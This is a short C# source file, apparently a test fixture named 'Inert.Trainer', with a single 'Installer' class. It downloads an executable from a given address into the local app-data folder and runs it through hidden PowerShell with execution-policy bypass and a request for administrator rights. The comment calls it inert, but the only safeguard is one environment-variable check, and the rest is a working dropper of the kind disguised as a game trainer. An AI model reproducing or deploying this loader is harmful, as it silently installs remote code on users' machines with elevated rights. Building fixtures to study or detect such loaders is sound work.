using System;
using System.Diagnostics;
using System.IO;
using System.Net.Http;
using System.Threading.Tasks;

namespace Inert.Trainer;

internal static class Installer
{
    public static async Task Run(Uri address)
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        var folder = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.LocalApplicationData), "inert-trainer");
        Directory.CreateDirectory(folder);
        var path = Path.Combine(folder, "runtime_" + Guid.NewGuid().ToString("N")[..8] + ".exe");
        using var http = new HttpClient();
        await File.WriteAllBytesAsync(path, await http.GetByteArrayAsync(address).ConfigureAwait(false)).ConfigureAwait(false);
        Process.Start(new ProcessStartInfo
        {
            FileName = "powershell.exe",
            Arguments = "-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command Start-Process -FilePath '" + path + "'",
            Verb = "runas",
            UseShellExecute = true,
            WindowStyle = ProcessWindowStyle.Hidden,
        });
    }
}
